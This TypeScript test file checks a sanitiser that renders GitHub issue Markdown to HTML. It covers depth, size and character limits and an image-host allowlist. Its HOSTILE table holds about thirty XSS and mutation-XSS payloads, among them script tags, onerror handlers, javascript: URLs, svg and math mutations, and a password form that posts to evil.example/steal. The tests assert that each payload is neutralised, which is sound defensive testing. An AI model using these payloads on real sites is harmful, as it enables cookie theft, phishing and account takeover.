import fc from 'fast-check';
import type { Element, Root } from 'hast';
import rehypeParse from 'rehype-parse';
import { unified } from 'unified';
import { visit } from 'unist-util-visit';
import { describe, expect, it } from 'vitest';
import { utf8Bytes } from '../../src/lib/sync/body-budget.ts';
import { MAX_BODY_HTML_BYTES } from '../../src/lib/sync/body-limits.ts';
import { plainExcerpt, renderBody } from '../../src/lib/sync/body.ts';
import { imageSources, isAllowedImage } from '../../src/lib/sync/image-policy.ts';

const ISSUE = 'https://github.com/acme/ml-platform/issues/7';
const WEB = 'https://github.com';
const html = (markdown: string) => renderBody(markdown, ISSUE, 'full', WEB).bodyHTML;

/** Hostile bodies: classic XSS, URL tricks, mutation XSS through svg/math, embedding, forms and styles. */
const HOSTILE: Record<string, string> = {
  'script tag': '<script>alert(document.cookie)</script>',
  'script split across markdown': '<scr<script>ipt>alert(1)</script>',
  'img onerror': '<img src=x onerror="alert(1)">',
  'event handler on a link': '<a href="https://example.com" onclick="alert(1)" onmouseover=alert(2)>x</a>',
  'javascript: link (markdown)': '[click](javascript:alert(1))',
  'javascript: link (html)': '<a href="javascript:alert(1)">x</a>',
  'javascript: with entity-encoded tab': '<a href="jav&#x09;ascript:alert(1)">x</a>',
  'javascript: upper case and spaces': '<a href="  JaVaScRiPt:alert(1)">x</a>',
  'vbscript: link': '<a href="vbscript:msgbox(1)">x</a>',
  'data: link': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'data: image': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'svg onload': '<svg onload=alert(1)><circle r=10 /></svg>',
  'svg with foreignObject':
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  'svg/style mutation': '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
  'math/mglyph mutation':
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  iframe: '<iframe src="https://evil.example/"></iframe>',
  'object and embed':
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  'form with password field':
    '<form action="https://evil.example/steal"><input type="password" name="p"><button>Sign in</button></form>',
  'style element': '<style>body { display: none }</style>',
  'style attribute': '<p style="position:fixed;inset:0;background:url(https://evil.example/)">x</p>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'base tag': '<base href="https://evil.example/">',
  'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  template: '<template><img src=x onerror=alert(1)></template>',
  'details ontoggle': '<details open ontoggle=alert(1)><summary>x</summary></details>',
  srcdoc: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  formaction: '<button formaction="javascript:alert(1)">x</button>',
  'id clobbering': '<a id="__proto__" name="location">x</a>',
};

const FORBIDDEN_ELEMENTS = new Set([
  'script',
  'style',
  'iframe',
  'object',
  'embed',
  'form',
  'button',
  'svg',
  'math',
  'meta',
  'base',
  'link',
  'template',
  'noscript',
  'textarea',
  'select',
]);

/** Parses the output as a browser would and lists anything an allowlist should never let through. */
function dangers(output: string): string[] {
  const tree = unified().use(rehypeParse, { fragment: true }).parse(output) as Root;
  const found: string[] = [];
  visit(tree, 'element', (node: Element) => {
    if (FORBIDDEN_ELEMENTS.has(node.tagName)) found.push(`<${node.tagName}>`);
    for (const [name, value] of Object.entries(node.properties)) {
      if (/^on/i.test(name)) found.push(`${name} handler`);
      if (name === 'style' || name === 'srcDoc' || name === 'formAction') found.push(name);
      if ((name === 'href' || name === 'src') && !/^(https?|mailto):/i.test(String(value)))
        found.push(`${name}=${String(value)}`);
      if (node.tagName === 'input' && name === 'type' && value !== 'checkbox')
        found.push(`input type ${String(value)}`);
    }
  });
  return found;
}

describe('issue body rendering and sanitising', () => {
  it.each(Object.entries(HOSTILE))('neutralises %s', (_name, payload) => {
    const output = html(payload);
    expect(dangers(output)).toEqual([]);
    // Outside attribute values (where such text is inert), nothing of the payload's machinery is left.
    const markup = output.replace(/="[^"]*"/g, '=""');
    expect(markup).not.toMatch(
      /javascript:|vbscript:|data:|onerror|onload|onclick|ontoggle|<script|<style|<iframe/i,
    );
  });

  it('sanitises the same way when a hostile payload sits inside ordinary Markdown', () => {
    const body = Object.values(HOSTILE)
      .map((p, i) => `## Finding ${i}\n\nSome *context*.\n\n${p}\n\n- item`)
      .join('\n\n');
    const output = html(body);
    expect(dangers(output)).toEqual([]);
    expect(output).toContain('<h2>Finding 0</h2>');
  });

  it('is stable: sanitising its own output changes nothing', () => {
    for (const payload of Object.values(HOSTILE)) {
      const once = html(payload);
      expect(dangers(html(once))).toEqual([]);
    }
  });

  it('keeps GitHub-flavoured Markdown: tables, task lists, code, strikethrough and details', () => {
    const output = html(
      '| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n```py\nprint(1)\n```\n\n~~old~~\n\n<details><summary>More</summary>\n\nhidden\n</details>',
    );
    expect(output).toContain('<table>');
    expect(output).toContain('<input type="checkbox" checked disabled>');
    expect(output).toContain('<code class="language-py">');
    expect(output).toContain('<del>old</del>');
    expect(output).toContain('<details><summary>More</summary>');
  });

  it('points relative links back at GitHub, and drops relative images, which would load GitHub pages', () => {
    const output = html(
      '[runbook](../blob/main/docs/runbook.md) [section](#impact) ![diagram](/acme/ml-platform/raw/main/d.png)',
    );
    expect(output).toContain('href="https://github.com/acme/ml-platform/blob/main/docs/runbook.md"');
    expect(output).toContain('href="https://github.com/acme/ml-platform/issues/7#impact"');
    expect(output).not.toContain('<img');
    expect(output).toContain('[image: diagram]');
  });

  it('drops expiring signed image URLs and images from other hosts, and keeps their alt text', () => {
    const output = html(
      '![screenshot](https://private-user-images.githubusercontent.com/1/2.png?jwt=eyJ) ' +
        '![s3](https://bucket.s3.amazonaws.com/a.png?X-Amz-Signature=abc&X-Amz-Expires=300) ![plain](https://example.com/a.png) ' +
        '![upload](https://user-images.githubusercontent.com/1/2.png)',
    );
    expect(output).not.toContain('private-user-images');
    expect(output).not.toContain('X-Amz-Signature');
    expect(output).not.toContain('example.com');
    expect(output).toContain('[image: screenshot]');
    expect(output).toContain('[image: plain]');
    expect(output).toContain('src="https://user-images.githubusercontent.com/1/2.png"');
  });

  it('makes a plain-text excerpt of at most 300 characters from the sanitised body', () => {
    const { excerpt } = renderBody(
      `# Title\n\n<script>secret()</script>${'word '.repeat(200)}`,
      ISSUE,
      'full',
      WEB,
    );
    expect(excerpt.length).toBeLessThanOrEqual(300);
    expect(excerpt.startsWith('Title word word')).toBe(true);
    expect(excerpt).not.toContain('secret');
    expect(excerpt.endsWith('…')).toBe(true);
  });

  it('honours the body modes full, excerpt and none', () => {
    expect(renderBody('**hi**', ISSUE, 'full', WEB)).toEqual({
      bodyHTML: '<p><strong>hi</strong></p>',
      excerpt: 'hi',
      bodySkipped: null,
    });
    expect(renderBody('**hi**', ISSUE, 'excerpt', WEB)).toEqual({
      bodyHTML: '',
      excerpt: 'hi',
      bodySkipped: null,
    });
    expect(renderBody('**hi**', ISSUE, 'none', WEB)).toEqual({
      bodyHTML: '',
      excerpt: '',
      bodySkipped: null,
    });
  });
});

/** Code points XML 1.0 forbids, raw or (in HTML, `references`) as character references: a feed with one does not parse. */
function xmlForbidden(text: string, references = true): string[] {
  const found: string[] = [];
  if (!text.isWellFormed()) found.push('lone surrogate');
  for (const match of text.matchAll(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g)) {
    found.push(`U+${match[0].charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}`);
  }
  for (const match of references ? text.matchAll(/&#(x[0-9a-f]+|\d+);/gi) : []) {
    const code =
      match[1]!.startsWith('x') || match[1]!.startsWith('X')
        ? Number.parseInt(match[1]!.slice(1), 16)
        : Number(match[1]);
    const allowed =
      code === 9 ||
      code === 10 ||
      code === 13 ||
      (code >= 0x20 && code <= 0xd7ff) ||
      (code >= 0xe000 && code <= 0xfffd) ||
      (code >= 0x10000 && code <= 0x10ffff);
    if (!allowed) found.push(match[0]);
  }
  return found;
}

/** Image sources in the output, as a browser would parse it, that the image policy does not allow. */
function disallowedImages(output: string): string[] {
  const tree = unified().use(rehypeParse, { fragment: true }).parse(output) as Root;
  const found: string[] = [];
  visit(tree, 'element', (node: Element) => {
    if (node.tagName !== 'img' && node.tagName !== 'source') return;
    const srcset = node.properties['srcSet'];
    const candidates = Array.isArray(srcset) ? srcset.map((c) => String(c).trim().split(/\s+/)[0]!) : [];
    for (const url of [node.properties['src'], ...candidates]) {
      if (url !== undefined && !isAllowedImage(String(url), WEB)) found.push(String(url));
    }
  });
  return found;
}

describe('bodies that would overflow the parser stack', () => {
  it.each([
    ['1,100 nested list markers', `${'- '.repeat(1100)}deep`, 'deep'],
    ['2,300 block quote markers', `${'>'.repeat(2300)} deep`, 'deep'],
    ['1,600 open <div> tags', `${'<div>'.repeat(1600)}deep`, 'deep'],
    ['5,100 asterisks around a word', `${'*'.repeat(5100)}deep${'*'.repeat(5100)}`, 'deep'],
    [
      '2,600 single asterisks that each open emphasis',
      `${'*a '.repeat(2600)}deep${' a*'.repeat(2600)}`,
      'a a a',
    ],
  ])('skips a body of %s with a reason instead of throwing', (_name, body, word) => {
    const result = renderBody(body, ISSUE, 'full', WEB);
    expect(result.bodyHTML).toBe('');
    expect(result.bodySkipped).toMatch(/^the body is nested [\d,]+ levels deep, over the limit of 64$/);
    expect(result.excerpt).toContain(word);
  });

  it('reads the nesting before parsing: 1,100 nested list markers are refused in a few milliseconds', () => {
    expect(renderBody(`${'- '.repeat(1100)}deep`, ISSUE, 'full', WEB).bodySkipped).toBe(
      'the body is nested 1,100 levels deep, over the limit of 64',
    );
  });

  it('still does not throw when a body the budget lets through fails in the parser', () => {
    // A backtick in a link destination looks like a code span to the budget, which therefore
    // misses the tags after it; the parser then overflows its stack, and renderBody catches it.
    const result = renderBody(`[a](x\`)${'<div>'.repeat(3000)}\``, ISSUE, 'full', WEB);
    expect(result.bodyHTML).toBe('');
    expect(result.bodySkipped).toMatch(/could not be rendered|nested/);
  });
});

describe('bodies that amplify', () => {
  const bytes = (markdown: string) => utf8Bytes(renderBody(markdown, ISSUE, 'full', WEB).bodyHTML);

  it('refuses a 12 KB table of 2,000 header cells and 2,000 padded rows', () => {
    const table = `|${'a|'.repeat(2000)}\n|${'-|'.repeat(2000)}\n${'|b\n'.repeat(2000)}`;
    const result = renderBody(table, ISSUE, 'full', WEB);
    expect(result.bodySkipped).toBe("the body's tables have 4,002,000 cells, over the limit of 5,000");
    expect(result.bodyHTML).toBe('');
  });

  it('renders a table within the cell limit, under the byte limit', () => {
    const table = `|${'a|'.repeat(50)}\n|${'-|'.repeat(50)}\n${'|b\n'.repeat(90)}`;
    const result = renderBody(table, ISSUE, 'full', WEB);
    expect(result.bodySkipped).toBeNull();
    expect(result.bodyHTML).toContain('<table>');
    expect(utf8Bytes(result.bodyHTML)).toBeLessThanOrEqual(MAX_BODY_HTML_BYTES);
  });

  it('refuses 16,380 footnote references, which would each add a back-link', () => {
    const result = renderBody(`${'[^1]'.repeat(16_380)}\n\n[^1]: note`, ISSUE, 'full', WEB);
    expect(result.bodySkipped).toMatch(/^the body has 16,38\d footnote references, over the limit of 500$/);
    expect(bytes(`${'[^1]'.repeat(16_380)}\n\n[^1]: note`)).toBe(0);
  });

  it('renders a few footnotes as GitHub does', () => {
    const output = html('Claim[^1] and another[^1].\n\n[^1]: The source.');
    expect(output).toContain('data-footnote-ref');
    expect(output).toContain('The source.');
  });

  it('refuses a body over 64 KB, the limit GitHub itself sets', () => {
    const result = renderBody('word '.repeat(14_336), ISSUE, 'full', WEB);
    expect(result.bodySkipped).toBe('the body is 70 KB, over the 64 KB limit');
    expect(result.excerpt.startsWith('word word')).toBe(true);
  });

  it('drops rendered HTML over 256 KB but keeps the excerpt', () => {
    // Every `<` in text becomes `&#x3C;`: six bytes out for one in.
    const result = renderBody(`less ${`${'<'.repeat(100)}\n\n`.repeat(600)}`, ISSUE, 'full', WEB);
    expect(result.bodyHTML).toBe('');
    expect(result.bodySkipped).toMatch(/^the rendered body is [\d,]+ KB, over the 256 KB limit$/);
    expect(result.excerpt.startsWith('less <<<')).toBe(true);
  });
});

describe('characters XML forbids', () => {
  it.each([
    ['a raw U+0001', 'before \u0001 after <b title="\u0001x">\u0001</b>'],
    ['a raw U+FFFF', 'before \uffff after <b title="\uffffx">\uffff</b>'],
    ['&#1; in Markdown and in raw HTML', 'before &#1; after <p title="&#1;x">&#1;</p>'],
    ['&#xFFFF; in Markdown and in raw HTML', 'before &#xFFFF; after <p title="&#xFFFF;x">&#xFFFF;</p>'],
    ['a lone surrogate', 'before \ud800 after'],
  ])('are absent from bodyHTML and excerpt for %s', (_name, body) => {
    const result = renderBody(body, ISSUE, 'full', WEB);
    expect(result.bodySkipped).toBeNull();
    expect(xmlForbidden(result.bodyHTML)).toEqual([]);
    expect(xmlForbidden(result.excerpt)).toEqual([]);
    expect(result.excerpt).toMatch(/^before .*after/);
  });

  it('are absent from the excerpt of a body that is skipped', () => {
    const result = renderBody(
      `before &#1; \u0001 &#xFFFF; after\n\n${'- '.repeat(1100)}x`,
      ISSUE,
      'full',
      WEB,
    );
    expect(result.bodySkipped).not.toBeNull();
    expect(xmlForbidden(result.excerpt)).toEqual([]);
  });
});

describe('images in bodies', () => {
  const UUID = '0b5a7c8e-1f2a-4b3c-9d8e-7f6a5b4c3d2e';
  const kept = (markdown: string) => (html(markdown).match(/<(img|source)\b[^>]*>/g) ?? []).join(' ');

  it('drops a tracking pixel on another host and keeps its alt text', () => {
    const output = html('![chart](https://tracker.example/pixel.png?reader=1)');
    expect(output).not.toContain('tracker.example');
    expect(output).toContain('[image: chart]');
  });

  it('drops a protocol-relative image, which resolves to another host', () => {
    expect(kept('![x](//tracker.example/p.png) <img src="//tracker.example/q.png">')).toBe('');
  });

  it('checks srcset in <picture><source> candidate by candidate', () => {
    const output = html(
      '<picture><source srcset="https://tracker.example/a.png 1x, https://user-images.githubusercontent.com/1/a.png 2x">' +
        '<source srcset="https://tracker.example/b.png"><img src="https://tracker.example/c.png" alt="c"></picture>',
    );
    expect(output).not.toContain('tracker.example');
    expect(output).toContain('<source srcset="https://user-images.githubusercontent.com/1/a.png 2x">');
    expect(output.match(/<source/g)).toHaveLength(1);
    expect(output).toContain('[image: c]');
  });

  it('drops relative images in Markdown and HTML, which would make readers load github.com/logout', () => {
    expect(kept('![x](/logout) <img src="/logout" alt="y"> <img src="logout">')).toBe('');
    expect(html('![x](/logout)')).toContain('[image: x]');
  });

  it('keeps an upload at https://github.com/user-attachments/assets/', () => {
    expect(kept(`![shot](https://github.com/user-attachments/assets/${UUID})`)).toBe(
      `<img src="https://github.com/user-attachments/assets/${UUID}" alt="shot">`,
    );
  });

  it('drops a URL whose user name is an allowed host (the real host comes after @)', () => {
    expect(kept('![x](https://user-images.githubusercontent.com@evil.example/x.png)')).toBe('');
    expect(kept('![x](https://user:pw@user-images.githubusercontent.com/x.png)')).toBe('');
  });
});

describe('the image policy', () => {
  const GHES = 'https://ghe.example.com';

  it('lists GitHub upload hosts and the web origin upload paths as CSP sources', () => {
    expect(imageSources(WEB)).toEqual([
      'https://user-images.githubusercontent.com',
      'https://avatars.githubusercontent.com',
      'https://github.com/user-attachments/assets/',
    ]);
    expect(imageSources(`${GHES}/`)).toContain(`${GHES}/storage/user/`);
    expect(imageSources(`${GHES}/`)).toContain(`${GHES}/user-attachments/assets/`);
  });

  it.each([
    ['https://user-images.githubusercontent.com/1/a.png', true],
    ['https://avatars.githubusercontent.com/u/1?v=4', true],
    ['https://github.com/user-attachments/assets/abc', true],
    ['https://github.com/user-attachments/assets', true],
    ['https://GITHUB.com:443/user-attachments/assets/abc', true],
    ['https://github.com/user-attachments/assets/../../logout', false],
    ['https://github.com/user-attachments/assetsx/abc', false],
    ['https://github.com/user-attachments%2Fassets/abc', false],
    ['https://github.com/logout', false],
    ['http://user-images.githubusercontent.com/1/a.png', false],
    ['https://user-images.githubusercontent.com:8443/1/a.png', false],
    ['https://user-images.githubusercontent.com./1/a.png', false],
    ['https://evil.example/user-images.githubusercontent.com/a.png', false],
    ['https://user-images.githubusercontent.com@evil.example/x.png', false],
    ['//user-images.githubusercontent.com/1/a.png', false],
    ['/user-attachments/assets/abc', false],
    ['data:image/png;base64,AAAA', false],
  ])('decides %s: %s', (url, allowed) => {
    expect(isAllowedImage(url, WEB)).toBe(allowed);
  });

  it('matches GitHub Enterprise Server uploads on its own origin only', () => {
    expect(isAllowedImage(`${GHES}/storage/user/1/files/a.png`, GHES)).toBe(true);
    expect(isAllowedImage(`${GHES}/user-attachments/assets/abc`, GHES)).toBe(true);
    expect(isAllowedImage('https://github.com/user-attachments/assets/abc', GHES)).toBe(false);
    expect(isAllowedImage('https://github.com/storage/user/1/a.png', WEB)).toBe(false);
  });

  it('compares path segments percent-decoded, as CSP does', () => {
    expect(isAllowedImage('https://github.com/user%2Dattachments/assets/abc', WEB)).toBe(true);
  });
});

describe('the parse-free excerpt', () => {
  it('strips Markdown and HTML punctuation', () => {
    expect(
      plainExcerpt(
        '# Title\n\n> **Bold** and _em_ with [a link](https://x.example) and ![img](y.png)\n\n- [ ] task\n1. item\n\n<div align="center">html</div>\n\n```js\ncode()\n```\n\n| a | b |\n|---|---|\n\n&amp; &#65; snake_case',
      ),
    ).toBe('Title Bold and em with a link and img task item html code() a b & A snake_case');
  });

  it('is cut to 300 code points', () => {
    const excerpt = plainExcerpt('😀 '.repeat(400));
    expect([...excerpt].length).toBeLessThanOrEqual(300);
    expect(excerpt.endsWith('…')).toBe(true);
  });
});

describe('renderBody on random bodies', () => {
  const FRAGMENTS = [
    '- ',
    '* ',
    '1. ',
    '> ',
    '>',
    '    ',
    '\n',
    '\n\n',
    '*',
    '**',
    '_',
    '~~',
    '`',
    '```',
    '[',
    ']',
    '](',
    '(',
    ')',
    '![x](https://tracker.example/p.png)',
    '![y](/logout)',
    '[^1]',
    '[^1]: n\n',
    '<div>',
    '</div>',
    '<b>',
    '</b>',
    '<p title="',
    '"',
    '<!--',
    '-->',
    '<',
    '&#1;',
    '&#xFFFF;',
    '&amp;',
    '\u0001',
    '\uffff',
    '\ud800',
    '😀',
    'e\u0301',
    '|a|b|\n|-|-|\n',
    '|x|y|\n',
    '# ',
    '---\n',
    'word ',
    'http://a.example/b_c ',
    '<picture><source srcset="//t.example/a.png 1x"></picture>',
    '<img src="https://user-images.githubusercontent.com/1.png">',
  ];
  const body = fc
    .array(fc.tuple(fc.constantFrom(...FRAGMENTS), fc.integer({ min: 1, max: 600 })), { maxLength: 8 })
    .map((parts) => parts.map(([fragment, times]) => fragment.repeat(times)).join(''));

  it('never throw, stay under the byte limit and hold no character XML forbids', () => {
    fc.assert(
      fc.property(body, (markdown) => {
        const result = renderBody(markdown, ISSUE, 'full', WEB);
        expect(utf8Bytes(result.bodyHTML)).toBeLessThanOrEqual(MAX_BODY_HTML_BYTES);
        expect(xmlForbidden(result.bodyHTML)).toEqual([]);
        // The excerpt is plain text: "&#1;" in it is four characters, escaped wherever it goes.
        expect(xmlForbidden(result.excerpt, false)).toEqual([]);
        expect(disallowedImages(result.bodyHTML)).toEqual([]);
        if (result.bodySkipped !== null) expect(result.bodyHTML).toBe('');
      }),
      { numRuns: 150 },
    );
  }, 120_000);
});
